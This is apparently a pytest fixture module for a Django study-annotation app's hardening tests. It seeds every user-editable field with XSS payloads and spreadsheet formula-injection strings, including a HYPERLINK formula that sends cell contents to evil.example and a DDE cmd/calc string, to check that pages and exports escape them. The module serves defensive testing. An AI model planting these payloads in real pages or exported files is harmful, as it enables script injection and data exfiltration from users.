"""The hardening suite's world: one study with every kind of object, written with
hostile text wherever a person can type it, and the people who try to reach it.

``build_world()`` makes (in the database the caller is connected to):

* researchers ``w-owner`` (owns the study) and ``w-other`` (owns another study);
* judges ``w-judge`` and ``w-judge2`` (and ``@SUM-1+1``, a name a spreadsheet would
  run) of the owner's study (judging opened; each has read the instructions and
  rated two items, so revise tokens exist);
* annotators ``w-annot`` and ``w-annot2`` with assignments on every alignment
  pair (``w-annot`` submitted one pair and holds a draft of another);
* the study's data, an import job, an alignment system, a succeeded alignment
  scoring run and aligner run, a succeeded metric run (PINC), an uploaded metric
  resource, a PEM model record, and — once the reports app is installed — a built
  report with its plots and tables.

Study name and description, original and candidate texts, system names, the
judging criteria's names/help/labels, alignment pair ids/group ids/tokens, system
names, resource names and the import's file name all carry :data:`MARKUP` (script,
an ``onerror`` image, an ``onload`` SVG) and text cells start with ``=``, ``+``,
``-`` or ``@`` (:data:`FORMULAS`), so every page and export is tested against them.

Nothing is sent to the broker while the world is built: background work is run
inline (as a worker would) so that no message outlives the test module.
"""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from unittest import mock

import pytest

#: Markup that would run script or create elements if a page rendered it raw.
MARKUP = ('<script>alert("xss-1")</script>', '<img src=x onerror=alert("xss-2")>', '"><svg onload=alert("xss-3")>')
#: The same, without spaces (alignment tokens cannot hold spaces).
MARKUP_TOKENS = (
    '<script>alert("xss-4")</script>',
    '<img/src=x/onerror=alert("xss-5")>',
    '"><svg/onload=alert("xss-6")>',
)
#: Raw fragments whose presence in an HTML page means markup was not escaped.
RAW_MARKERS = ("<script>alert(", "<img src=x", "<img/src=x", "<svg onload", "<svg/onload")
#: Cell starts that spreadsheets run as formulas (OWASP CSV injection).
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)")

STUDY_NAME = "Hardening study " + MARKUP[0]
#: A word only the owner's study holds: a response that shows it to someone else leaks.
SECRET = "Xyzzy-owner-secret"


def hostile(i: int) -> str:
    """A sentence with a formula start, a unique secret word and every markup payload."""
    return f"{FORMULAS[i % len(FORMULAS)]} sentence {i} {SECRET} " + " ".join(MARKUP)


def _upload(name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def build_world() -> SimpleNamespace:
    """Create the world described in the module docstring; returns ids and names."""
    import json

    from django.apps import apps
    from django.contrib.auth.models import User

    from annotation.alignment.enums import ScoringKind
    from annotation.alignment.models import AlignerRun, AlignmentAssignment, AlignmentPair
    from annotation.alignment.services.assignments import alignment_config_update, assignments_create
    from annotation.alignment.services.drafts import assignment_draft_save, assignment_submit
    from annotation.alignment.services.pairs import pairs_import_file
    from annotation.alignment.services.queueing import scoring_run_create
    from annotation.alignment.services.scoring import scoring_run_execute
    from annotation.alignment.services.systems import system_alignments_import
    from annotation.enums import Role
    from annotation.judging.defaults import default_criteria
    from annotation.judging.protocols.absolute.selectors import item_next_for_judge
    from annotation.judging.protocols.absolute.services import judgment_submit
    from annotation.judging.selectors.judge import assignment_for_judge
    from annotation.judging.services.assignments import instructions_mark_seen
    from annotation.judging.services.design import design_update
    from annotation.judging.services.queueing import study_judging_open_start
    from annotation.services.membership import study_member_add
    from annotation.services.queueing import study_import_file
    from annotation.services.studies import researcher_grant, study_create
    from config.jobs.enums import JobStatus
    from metrics.models import PemModel
    from metrics.services.resources import metric_resource_create
    from metrics.services.runs import metric_run_create
    from metrics.services.worker import metric_run_execute

    def user(name, *, researcher=False):
        u = User.objects.create_user(name, password="pw")
        if researcher:
            researcher_grant(user=u)
        return u

    owner, other = user("w-owner", researcher=True), user("w-other", researcher=True)
    judge, judge2 = user("w-judge"), user("w-judge2")
    annot, annot2 = user("w-annot"), user("w-annot2")
    # Usernames may start with '@', '+' or '-': a spreadsheet would run this one.
    judge3 = user("@SUM-1+1")

    # Patched where each service looks it up: the queueing modules that ask for background work.
    with (
        mock.patch("annotation.services.queueing.job_enqueue"),
        mock.patch("annotation.alignment.services.queueing.job_enqueue"),
        mock.patch("metrics.services.runs.job_enqueue"),
        mock.patch("metrics.services.pem_models.job_enqueue"),
    ):
        study = study_create(name=STUDY_NAME, owner=owner, description=f"{SECRET} " + " ".join(MARKUP))
        other_study = study_create(name="Other researcher's study", owner=other)
        buf = io.StringIO()
        writer = csv.writer(buf)
        writer.writerow(["original_id", "original", "system", "candidate"])
        for i in range(6):
            for s, system in enumerate(("human", "=cmd|' /C calc'!A0 " + MARKUP[1])):
                writer.writerow([f"{FORMULAS[i % 4][:1]}o{i}", hostile(i), system, hostile(10 * s + i)])
        job = study_import_file(study=study, data=buf.getvalue().encode(), filename=f"data {MARKUP[1]}.csv", user=owner)
        assert job.status == JobStatus.SUCCEEDED, job.error
        study_import_file(
            study=other_study, data=b"original_id,original,human\n1,Other text.,Other paraphrase.\n", filename="o.csv"
        )
        for u, role in (
            (judge, Role.JUDGE),
            (judge2, Role.JUDGE),
            (judge3, Role.JUDGE),
            (annot, Role.ANNOTATOR),
            (annot2, Role.ANNOTATOR),
        ):
            study_member_add(study=study, user=u, role=role)

        # judging: hostile criteria texts, opened, two judgments per judge
        criteria = default_criteria()
        for c in criteria:
            c["name"] = (c["name"] + " " + MARKUP[2])[:60]
            c["help"] = c.get("help", "") + " " + " ".join(MARKUP)
            c["scale"]["labels"] = [f"{lbl[:20]} {MARKUP[k % 3][:38]}" for k, lbl in enumerate(c["scale"]["labels"])]
        design_update(study=study, changes={"criteria": criteria, "seed": 5})
        # through the researcher's path, so an opening job (done at once: a small study) exists too
        open_job = study_judging_open_start(study=study, user=owner, background=False)
        assert open_job.status == JobStatus.SUCCEEDED, open_job.error
        tokens = {}
        for n, u in enumerate((judge, judge2, judge3)):
            assignment = assignment_for_judge(study=study, judge=u)
            instructions_mark_seen(assignment=assignment)
            for k in range(2):
                item = item_next_for_judge(assignment=assignment)
                judgment_submit(
                    study=study,
                    judge=u,
                    token=item.token,
                    key=f"world-{n}-{k}-key",
                    scores={"adequacy": 4, "fluency": 3, "dissimilarity": 2, "overall": 3 + k},
                    serve_stamp=item.serve_stamp,
                )
            tokens[u.username] = item.token

        # alignment: pairs with hostile tokens and ids, a system, assignments, gold, runs
        pairs = [
            {
                "pair_id": f"{FORMULAS[k][:1]}pair{k} {MARKUP[k]}",
                "group_id": f"@g{k} {MARKUP[k]}",
                "sentence1": f"{SECRET} {' '.join(MARKUP_TOKENS)} one",
                "sentence2": f"{' '.join(MARKUP_TOKENS)} two {k}",
                "tokens1": [SECRET, *MARKUP_TOKENS, "one"],
                "tokens2": [*MARKUP_TOKENS, "two", str(k)],
            }
            for k in range(3)
        ]
        pairs_import_file(
            study=study, data="".join(json.dumps(p) + "\n" for p in pairs).encode(), filename="pairs.jsonl"
        )
        pharaoh = "0-0 1-1 2-2\n1-0 3-2\n0-1\n"
        system = system_alignments_import(
            study=study, name="=aligner " + MARKUP[0], data=pharaoh.encode(), filename="sys.pharaoh", fmt="pharaoh"
        )
        alignment_config_update(study=study, annotators_per_pair=2)
        assignments_create(study=study)
        mine = list(AlignmentAssignment.objects.filter(annotator=annot).order_by("pair__position"))
        theirs = list(AlignmentAssignment.objects.filter(annotator=annot2).order_by("pair__position"))
        assignment_submit(assignment=mine[0], sure=[[0, 0], [1, 1]], possible=[[2, 2]], revision=0, active_seconds=3.0)
        assignment_draft_save(assignment=mine[1], sure=[[1, 0]], possible=[], revision=0, active_seconds=1.0)
        assignment_submit(assignment=theirs[0], sure=[[0, 0]], possible=[], revision=0, active_seconds=2.0)
        scoring = scoring_run_create(study=study, user=owner, kind=ScoringKind.SYSTEM, system=system)
        scoring = scoring_run_execute(run_id=scoring.pk)
        assert scoring.status == JobStatus.SUCCEEDED, scoring.error
        aligner = AlignerRun.objects.create(
            study=study, created_by=owner, system_name="paraeval-aligner", status=JobStatus.SUCCEEDED
        )

        # metrics: a run computed inline, a resource, a PEM model record
        run = metric_run_create(study=study, metric="pinc", created_by=owner, enqueue=False)
        run = metric_run_execute(run_id=run.pk)
        assert run.status == JobStatus.SUCCEEDED, run.error
        resource = metric_resource_create(
            name="=res " + MARKUP[1],
            kind="other",
            file=_upload(f"res {MARKUP[2]}.txt", b"a b c\n"),
            owner=owner,
            study=study,
            description=" ".join(MARKUP),
        )
        pem = PemModel.objects.create(
            study=study, name="pem " + MARKUP[0], created_by=owner, status=JobStatus.FAILED, error="no phrase table"
        )

    # field studies: a join link and one participant who came through it (their resume link's secret)
    from annotation.participation import services as participation_services

    join_link = participation_services.join_link_create(study=study, role=Role.JUDGE, created_by=owner)
    _, resume_token = participation_services.participant_join(link=join_link, ids=participation_services.PlatformIds())

    world = SimpleNamespace(
        study=study.pk,
        other_study=other_study.pk,
        job=job.pk,
        open_job=open_job.pk,
        users={
            "owner": "w-owner",
            "other_researcher": "w-other",
            "judge": "w-judge",
            "other_judge": "w-judge2",
            "annotator": "w-annot",
            "other_annotator": "w-annot2",
        },
        token=tokens["w-judge"],
        other_token=tokens["w-judge2"],
        assignment=mine[1].pk,
        submitted_assignment=mine[0].pk,
        other_assignment=theirs[1].pk,
        pair=AlignmentPair.objects.filter(study=study).order_by("position").first().pk,
        alignment_system=system.pk,
        scoring_run=scoring.pk,
        aligner_run=aligner.pk,
        metric_run=run.pk,
        resource=resource.pk,
        pem=pem.pk,
        report=None,
        plot=None,
        table=None,
        join_link=join_link.pk,
        join_token=join_link.token,
        resume_token=resume_token,
    )
    if apps.is_installed("metrics.reports"):
        _add_report(world, study, owner)
    return world


def _add_report(world: SimpleNamespace, study, owner) -> None:
    """A built report (simulated judges fill the study first, as the demo does)."""
    from annotation.judging.protocols.absolute.simulation import simulated_judges_fill
    from metrics.reports.exports.tables import report_tables
    from metrics.reports.models import ReportPlot
    from metrics.reports.services.build import report_build
    from metrics.reports.services.queueing import report_create

    study.refresh_from_db()
    simulated_judges_fill(study=study, n_judges=3, seed=1)
    report = report_create(study=study, created_by=owner, settings={"n_boot": 50}, enqueue=False)
    report = report_build(report_id=report.pk)
    assert report.status == "succeeded", report.error
    world.report = report.pk
    world.plot = ReportPlot.objects.filter(report=report).values_list("slug", flat=True).first()
    world.table = report_tables(report.result)[0].slug


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    """The world, built once per test module; flushed afterwards (as TransactionTestCase does).

    Tests take ``db`` as well, so whatever a test changes is rolled back.
    """
    from django.core.management import call_command

    with django_db_blocker.unblock():
        built = build_world()
    yield built
    with django_db_blocker.unblock():
        call_command("flush", interactive=False, verbosity=0)


def login_client(username: str | None, *, enforce_csrf: bool = False):
    """A Django test client logged in as ``username`` (anonymous for None)."""
    from django.contrib.auth.models import User
    from django.test import Client

    client = Client(enforce_csrf_checks=enforce_csrf)
    if username:
        client.force_login(User.objects.get(username=username))
    return client


def db_fingerprint() -> dict[str, tuple]:
    """Row count and latest ``updated_at`` (or ``last_login``) of every model: any write changes it."""
    from django.apps import apps
    from django.db.models import Count, Max

    out = {}
    for model in apps.get_models():
        if model._meta.proxy or not model._meta.managed:
            continue
        fields = {f.name for f in model._meta.concrete_fields}
        aggregates = {"n": Count("pk")}
        for stamp in ("updated_at", "last_login"):
            if stamp in fields:
                aggregates["m"] = Max(stamp)
                break
        out[model._meta.label] = tuple(model._base_manager.aggregate(**aggregates).values())
    return out


def fingerprint_diff(before: dict, after: dict) -> list[str]:
    return [
        f"{k}: {before.get(k)} -> {after.get(k)}"
        for k in sorted(set(before) | set(after))
        if before.get(k) != after.get(k)
    ]


def upload_bytes(name: str, data: bytes):
    return _upload(name, data)


__all__ = [
    "MARKUP",
    "MARKUP_TOKENS",
    "RAW_MARKERS",
    "FORMULAS",
    "SECRET",
    "STUDY_NAME",
    "hostile",
    "build_world",
    "login_client",
    "db_fingerprint",
    "fingerprint_diff",
    "upload_bytes",
]


@pytest.fixture
def empty_study(db):
    from django.contrib.auth.models import User

    from annotation.services.queueing import study_import_file
    from annotation.services.studies import researcher_grant, study_create

    owner = User.objects.create_user("fuzz-owner", password="pw")
    researcher_grant(user=owner)
    study = study_create(name="Fuzzed study", owner=owner)
    study_import_file(study=study, data=b"original_id,original,human\nk1,Kept.,Kept too.\n", filename="k.csv")
    return study
